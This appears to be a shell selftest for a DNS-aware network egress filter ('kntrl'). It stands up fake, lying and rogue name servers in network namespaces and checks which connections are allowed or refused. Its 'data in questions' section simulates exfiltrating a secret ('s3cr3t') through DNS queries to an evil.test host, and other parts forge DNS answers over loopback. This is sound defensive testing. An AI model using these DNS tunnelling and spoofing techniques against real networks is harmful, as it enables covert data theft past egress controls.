#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# Decisions by name: what name servers answer is known before the asker can connect,
# and nobody but those servers, asked for that name, can make it so.
# shellcheck disable=SC2317 # functions that ok and is call
set -u
. selftests/vm/lib.sh
. selftests/vm/attempts.sh

dns=selftests/vm/dns.py
server=192.0.2.53 liar=192.0.2.54 rogue=192.0.2.66 nat=192.0.2.55 quick=192.0.2.56

# ---- The other host: name servers, and whatever they point to ----

another_host() {
	remote far 192.0.2.1/24 $server/24 &&
		ip -n far addr add $liar/24 dev eth0 &&
		ip -n far addr add $rogue/24 dev eth0 &&
		ip -n far route add local 198.18.0.0/15 dev lo &&
		ip route add 198.18.0.0/15 via $server
}
ok 'another host' another_host
background ip netns exec far dnsmasq --keep-in-foreground --no-resolv --no-hosts --user=root --pid-file= \
	--listen-address=$server --bind-interfaces --local=/test/ --address=/good.test/198.18.0.10 \
	--address=/profile.test/198.18.0.11 --address=/evil.test/198.18.0.66 \
	--address=/early.test/198.18.0.13 --cname=alias.test,www.good.test --host-record=www.good.test,198.18.0.12,2001:db8::12
background ip netns exec far python3 $dns web
# shellcheck disable=SC2154 # of lib.sh
web=$T/background.$jobs_started
ok 'a web server at all addresses' wait_for 20 grep -q ready "$web"
for addr in $liar $rogue; do
	background ip netns exec far python3 $dns serve "$addr"
	ok "a server that lies, $addr" wait_for 20 grep -q ready "$T/background.$jobs_started"
done
# What a container's resolver and a service's address are: NAT leads elsewhere.
leads_elsewhere() {
	on far ip addr add 192.168.77.2/32 dev lo && ip route add 192.168.77.2 via $server &&
		nft -f - <<EOT
table ip selftest {
	chain out {
		type nat hook output priority -100
		ip daddr 127.0.0.11 udp dport 53 dnat to 127.0.0.1:5399
		ip daddr $nat udp dport 53 dnat to 192.168.77.2:5399
	}
}
EOT
}
ok 'NAT' leads_elsewhere
background ip netns exec far python3 $dns serve 192.168.77.2 5399
background python3 $dns serve 127.0.0.1 5399
ok 'a server behind it' wait_for 20 grep -q ready "$T/background.$jobs_started"
printf 'nameserver %s\nsearch corp.test\noptions ndots:5\n' $server >/etc/resolv.conf
ok 'a name server' wait_for 10 getent ahostsv4 good.test

# fetch PROGRAM HOST: ok, or not.
fetch() {
	case $1 in
	curl) curl -s --max-time 10 -o /dev/null "http://$2/" ;;
	busybox)
		addr=$(busybox nslookup -type=a "$2" | awk '/^Name/ { on = 1 } on && /^Address/ { print $2 }')
		busybox nc -w 10 "$addr" 80
		;;
	python3) python3 -c "import socket; socket.create_connection(('$2', 80), 10)" ;;
	node) node -e "require('net').connect(80, '$2', () => process.exit(0))
		.on('error', () => process.exit(1))" ;;
	c-ares) node -e "require('dns').resolve4('$2', (e, a) => require('net').connect(80, a[0],
		() => process.exit(0)).on('error', () => process.exit(1)))" ;;
	esac >/dev/null 2>&1 && echo ok || echo refused
}

# hears ADDRESS: how many connections it has taken.
hears() {
	grep -c -x "$1" "$web"
}

# try CASE... < "CASE WANT" lines
cases_are() {
	# shellcheck disable=SC2046 # words are meant
	python3 $dns try $(cut -d' ' -f1 "$T/wants") >"$T/said" 2>&1
	while read -r case want; do
		is "$(grep "^$case " "$T/said")" "$case $want" "$1: $case"
	done <"$T/wants"
}

for addr in 198.18.5.128 198.18.0.10 198.18.0.66 198.18.3.1 198.18.4.4; do
	is "$(python3 $dns dial $addr)" ok "without kntrl: $addr"
done

cat >"$T/policy.yaml" <<YAML
version: "1"
mode: trace
rules:
  network:
    allow_local_ranges: false
    allow_github_meta: true
    allowed_ips: [192.0.2.1]
    allowed_hosts: [good.test, alias.test, "port.test:81", hosts.test, early.test]
    profiles:
      - process: curl
        allowed_hosts: [profile.test]
  dns:
    allowed_servers: [$server, $liar, $nat, 127.0.0.11, 127.0.0.53]
YAML
echo '198.18.0.77 hosts.test other.test' >/etc/hosts
echo '{"actions": ["198.18.5.0/25", "2001:db8:5::/48"]}' >"$T/meta.json"
touch -d '3 days ago' "$T/meta.json"
ok 'loads' load --github-meta "$T/meta.json" "$T/policy.yaml"

# ---- GitHub's ranges ----

is "$(python3 $dns dial 198.18.5.127)" ok "an address of GitHub's ranges"
is "$(python3 $dns dial 198.18.5.128)" EPERM 'and one beside them'
like "$("$(program kntrl)" status)" "GitHub's ranges 3 days old" 'status tells their age'

# ---- Programs ----

for program in busybox python3 node c-ares; do
	is "$(fetch $program sub-$program.good.test)" ok "$program: an allowed name"
	is "$(fetch $program sub-$program.evil.test)" refused "$program: another"
	is "$(fetch $program sub-$program.profile.test)" refused "$program: a name of curl's"
done
is "$(fetch python3 alias.test)" ok 'an alias that is allowed, of a name that need not be'
like "$(flows | grep '"daddr":"198.18.0.12"')" '"domains":\["alias.test"\]' 'the report names it'
like "$(flows | grep '"domain":"sub-python3.good.test"')" \
	'"task_name":"python3.*"type":"A","server":"192.0.2.53","answers":\["198.18.0.10"\],"rcode":0,"policy":"pass"' \
	'a question and its answer are reported'
like "$("$(program kntrl)" report)" '^sub-node.good.test +\| 192.0.2.53$' 'in the table, too'
is "$("$(program kntrl)" report | grep -c '^sub-node.good.test ')" 1 'once'
is "$(fetch curl sub.profile.test)" ok 'curl: a name of its own'
is "$(fetch curl sub2.good.test)" refused 'curl: a name for everybody else'
is "$(python3 $dns dial 198.18.0.66)" EPERM 'an address without a name'
is "$(hears 198.18.0.66)" 1 'which has heard of nobody since'

# ---- Answers ----

cat >"$T/wants" <<'WANTS'
udp ok
unconnected ok
parallel ok
nat ok
nat-unconnected ok
nat-parallel ok
mixed ok
chain ok
many ok
cut ok
long ok
edns ok
stream ok
stream-two ok/ok
WANTS
cases_are 'learned'
unlike "$("$(program kntrl)" report)" 'answers of name servers ignored' 'none was ignored'
cat >"$T/wants" <<'WANTS'
forbidden EPERM
near EPERM
id EPERM
name EPERM
port EPERM
loop EPERM
other EPERM
none EPERM
query EPERM
type EPERM
rogue asked:EPERM EPERM
domain EPERM
two-questions EPERM
unsolicited EPERM/EPERM
another-socket EPERM
answer-split EPERM
WANTS
cases_are 'not believed'
like "$("$(program kntrl)" report)" '^warning: answers of name servers ignored: [1-9]' \
	'the report says that there were such'

# ---- Forged on this host ----

is "$(python3 $dns local $liar 192.0.2.1)" forged "an answer by loopback under the server's address arrives"
is "$(python3 $dns dial 198.18.4.4)" EPERM 'and is not believed'
is "$(unshare -Urn sh -c "ip link set lo up; ip addr add $liar/32 dev lo; exec python3 $dns local $liar 127.0.0.1")" \
	forged 'so in a network namespace that a user made'
is "$(python3 $dns dial 198.18.4.4)" EPERM 'is not believed'

# ---- Data in questions ----

# What has reached a server of the other host, as hexadecimal digits: "s3cr3t" or half of it.
leaked() {
	cat /tmp/heard-* | grep -c -i -e 733363 -e 723374 -e '^tcp 73$'
}

background python3 $dns serve 127.0.0.53
ok 'a server on this host' wait_for 20 grep -q ready "$T/background.$jobs_started"
leak() {
	python3 $dns leak
	"$bin/asks" leak $liar s3cr3t.evil.test
	sleep 0.2
}
leak >"$T/leak.before" 2>&1
# But for datagrams with options, which some devices drop.
ok 'without block_unlisted_queries it arrives' test "$(leaked)" -ge $(($(grep -c . "$T/leak.before") - 1))
# Two by each way that NAT leads elsewhere, and what was sent again.
ok 'where NAT leads, too' sh -c 'test $(grep -c 733363 /tmp/heard-192.168.77.2) -ge 2 &&
	test $(grep -c 733363 /tmp/heard-127.0.0.1) -ge 3'
sed 's/^  dns:/&\n    block_unlisted_queries: true/' "$T/policy.yaml" >"$T/queries.yaml"
ok 'loads, with block_unlisted_queries' load --github-meta "$T/meta.json" "$T/queries.yaml"
before=$(leaked)
leak >"$T/leak.after" 2>&1
while read -r case said; do
	case $case in
	stream* | urgent) continue ;;
	esac
	is "$said" EPERM "refused: $case"
done <"$T/leak.after"
is "$(grep -c . "$T/leak.after")" "$(grep -c . "$T/leak.before")" 'all were tried'
is "$(leaked)" "$before" 'nothing has arrived'
like "$("$(program kntrl)" report)" '^s3cr3t.evil.test +\| 192.0.2.54 \(block\)$' 'it is reported'
like "$(flows | grep '"domain":"s3cr3t.evil.test".*"block"')" '"type":"TXT"' 'with what was asked for'
# With "search" and "ndots" in resolv.conf, other names are asked for first.
for program in python3 c-ares busybox; do
	is "$(fetch $program sub3-$program.good.test)" ok "$program: a listed name is still asked for"
done
is "$(fetch curl sub3.profile.test)" ok 'curl: its own'
cat >"$T/wants" <<'WANTS'
nat ok
nat-unconnected ok
nat-parallel ok
domain EPERM
stream ok
stream-two ok/ok
edns ok
WANTS
cases_are 'learned, where questions are judged'
is "$(fetch python3 hosts.test)" ok 'a name of /etc/hosts'
is "$(python3 $dns dial 198.18.0.13)" ok 'an allowed host that was resolved by the load'

# ---- At once ----

# Beside what was judged above, this fills tables; NAT would keep track of 20,000 flows.
race() {
	"$bin/asks" race $quick "$1" $rounds "$2"
}
far_counts() {
	on far nft list counter ip watch forbidden | sed -n 's/.*packets \([0-9]*\).*/\1/p'
}
rounds=2000
case $(uname -r) in
6.12*) ! grep -q bpf /sys/kernel/security/lsm || rounds=10000 ;;
esac
nft delete table ip selftest
on far ip addr add $quick/24 dev eth0
on far nft 'add table ip watch; add counter ip watch forbidden
	add chain ip watch in { type filter hook prerouting priority 0; }
	add rule ip watch in ip daddr 198.19.0.0/16 counter name forbidden'
background ip netns exec far "$bin/asks" serve $quick
ok 'a quick server' wait_for 20 grep -q ready "$T/background.$jobs_started"
sed -e 's/allowed_hosts: \[/&race.test, /' -e "s/allowed_servers: \[/&$quick, /" "$T/policy.yaml" \
	>"$T/race.yaml"
ok 'loads, with names for a race' load --github-meta "$T/meta.json" "$T/race.yaml"
is "$(race race.test 64)" "connect ok $rounds
sendto ok $rounds" "$rounds fresh names, resolved and connected to at once: never refused"
before=$(far_counts)
is "$(race evil.test 256)" "connect EPERM $rounds
sendto EPERM $rounds" "$rounds fresh forbidden names: never let through"
is "$(far_counts)" "$before" 'and no packet has arrived there'
sed -i 's/^mode: trace/mode: monitor/' "$T/race.yaml"
ok 'loads, in mode monitor' load --github-meta "$T/meta.json" "$T/race.yaml"
rounds=20
is "$(race evil.test 400)" "connect ok $rounds
sendto ok $rounds" 'where nothing is denied they are let through'
ok 'and packets arrive' test "$(far_counts)" -ge $((before + 40))

done_testing
